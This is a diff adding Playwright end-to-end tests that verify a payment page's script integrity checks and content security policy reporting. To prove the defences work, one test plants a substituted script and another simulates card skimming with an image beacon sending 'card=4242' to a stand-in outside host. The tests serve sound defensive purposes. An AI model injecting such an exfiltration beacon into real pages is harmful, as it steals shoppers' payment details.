@@ -1,11 +1,13 @@
+import { createHash } from 'node:crypto'
 import { readFileSync } from 'node:fs'
-import { join } from 'node:path'
-import { expect, test } from '@playwright/test'
+import { basename, join } from 'node:path'
+import { type Page, expect, test } from '@playwright/test'
 import * as z from 'zod/mini'
 import { fillDetails, goOn, typeCard } from '../../checkout/e2e/steps.ts'
 import { newGuest } from '../../e2e/guest.ts'
 
 const rules = z.object({ headers: z.record(z.string(), z.record(z.string(), z.string())) })
+const integrity = z.object({ integrity: z.record(z.string(), z.string()) })
 const page = `claim/#${btoa('WELCOME25')}`
 
 test('the policy blocks an inline script', async ({ page: tab }) => {
@@ -32,6 +34,46 @@ test('a payment page runs the build’s scripts and the payment provider’s, an
   const known = [`${origin}${pathname}assets/`, `${origin}/__sandbox/stripe/`]
   expect(scripts.length).toBeGreaterThan(5)
   expect(scripts.filter((url) => !known.some((start) => url.startsWith(start)))).toEqual([])
+})
+
+const integrityOf = async (tab: Page) =>
+  z.parse(integrity, JSON.parse((await tab.locator('script[type=importmap]').textContent()) ?? '{}')).integrity
+
+test('LAW-05 the browser runs no script of a payment page that is not as it was built', async ({ page: tab, baseURL }) => {
+  const scripts = new Map<string, string>()
+  tab.on('response', async (response) => {
+    const { pathname } = new URL(response.url())
+    if (response.request().resourceType() === 'script' && pathname.includes('/assets/'))
+      scripts.set(
+        `../assets/${basename(pathname)}`,
+        `sha256-${createHash('sha256')
+          .update(await response.body())
+          .digest('base64')}`,
+      )
+  })
+  await fillDetails(tab, newGuest('integrity', null))
+  const known = await integrityOf(tab)
+  expect(scripts.size).toBeGreaterThan(5)
+  expect([...scripts].filter(([url, digest]) => known[url] !== digest)).toEqual([])
+
+  const planted = await tab.context().newPage()
+  const entry = Object.keys(known).find((url) => url.includes('/checkout-')) ?? ''
+  await planted.route(new URL(entry, new URL('checkout/', baseURL)).href, (route) =>
+    route.fulfill({ contentType: 'text/javascript', body: 'document.title = "planted"' }),
+  )
+  const refused = planted.waitForEvent('console', (message) => message.text().includes('integrity'))
+  await planted.goto('checkout/?ico_id=ico-100')
+  await refused
+  expect(await planted.title()).not.toBe('planted')
+})
+
+test('LAW-05 the deployment’s signals receive what the policy has blocked', async ({ page: tab }) => {
+  await tab.goto(page)
+  const reported = tab.evaluate(
+    () => new Promise((done) => Object.assign(window, { platewell: { onSignal: (signal: { message?: string }) => done(signal.message) } })),
+  )
+  await tab.evaluate(() => new Image().setAttribute('src', 'https://elsewhere.example/pixel.gif?card=4242'))
+  expect(await reported).toBe('Blocked by the policy img-src: https://elsewhere.example/pixel.gif')
 })
 
 test('pages and hashed files have the headers that the build lists', { tag: '@each-enterprise' }, async ({ request }, { project }) => {
